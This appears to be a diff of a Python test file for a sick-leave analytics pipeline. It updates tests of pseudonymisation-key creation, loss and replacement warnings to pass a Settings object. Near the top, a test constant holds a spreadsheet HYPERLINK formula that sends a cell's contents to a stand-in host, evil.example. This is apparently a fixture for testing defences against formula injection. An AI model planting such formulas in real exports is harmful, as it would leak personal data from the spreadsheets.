@@ -25,6 +25,7 @@ from pipeline import deliver, filemodes, privacy
 from pipeline.alerts import night_warnings_message
 from pipeline.errors import UserError
 from pipeline.night_report import summary_markdown
+from pipeline.settings import Settings
 from tests.sample_files import absences, employments
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Klikk her")'
@@ -196,39 +197,40 @@ def key_file(tmp_path, monkeypatch) -> Path:
 def test_first_night_makes_a_key_quietly_and_a_deleted_key_is_said(tmp_path, key_file):
     warehouse = tmp_path / "warehouse"
     warehouse.mkdir()
-    first = privacy.open_night_key(warehouse)
+    first = privacy.open_night_key(warehouse, Settings())
     assert (first.created, first.replaced, first.warning) == (True, False, None)
     assert _mode(key_file) == 0o600 and _mode(key_file.parent) == 0o700
     (warehouse / "internal.duckdb").write_bytes(b"")  # the night built its warehouse
     privacy.record_night_key(warehouse, first)
-    same = privacy.open_night_key(warehouse)
+    same = privacy.open_night_key(warehouse, Settings())
     assert (same.key, same.created, same.replaced) == (first.key, False, False)
     key_file.unlink()
-    lost = privacy.open_night_key(warehouse)
+    lost = privacy.open_night_key(warehouse, Settings())
     assert lost.key != first.key and (lost.created, lost.replaced) == (True, True)
     assert lost.warning.startswith(f"Pseudonymiseringsnøkkelen ({key_file}) er borte, og en ny")
     # Until a night publishes with the new key, every night says it again.
-    again = privacy.open_night_key(warehouse)
+    again = privacy.open_night_key(warehouse, Settings())
     assert (again.created, again.replaced) == (False, True)
     assert "er byttet ut" in again.warning
     privacy.record_night_key(warehouse, again)
-    assert not privacy.open_night_key(warehouse).replaced
+    assert not privacy.open_night_key(warehouse, Settings()).replaced
 
 
 def test_lost_key_noticed_on_a_warehouse_built_before_key_ids_were_recorded(tmp_path, key_file):
     warehouse = tmp_path / "warehouse"
     warehouse.mkdir()
     (warehouse / "analytics.duckdb").write_bytes(b"")
-    assert privacy.open_night_key(warehouse).replaced  # no key file, but a warehouse: lost
+    # no key file, but a warehouse: lost
+    assert privacy.open_night_key(warehouse, Settings()).replaced
 
 
 def test_changed_key_in_the_environment_is_said(tmp_path, monkeypatch):
     warehouse = tmp_path / "warehouse"
     warehouse.mkdir()
     monkeypatch.setenv(privacy.KEY_ENV, "a" * 40)
-    privacy.record_night_key(warehouse, privacy.open_night_key(warehouse))
+    privacy.record_night_key(warehouse, privacy.open_night_key(warehouse, Settings()))
     monkeypatch.setenv(privacy.KEY_ENV, "b" * 40)
-    changed = privacy.open_night_key(warehouse)
+    changed = privacy.open_night_key(warehouse, Settings())
     assert changed.replaced and changed.warning.startswith(
         "Pseudonymiseringsnøkkelen (SICKLEAVE_PSEUDONYM_KEY) er byttet ut"
     )
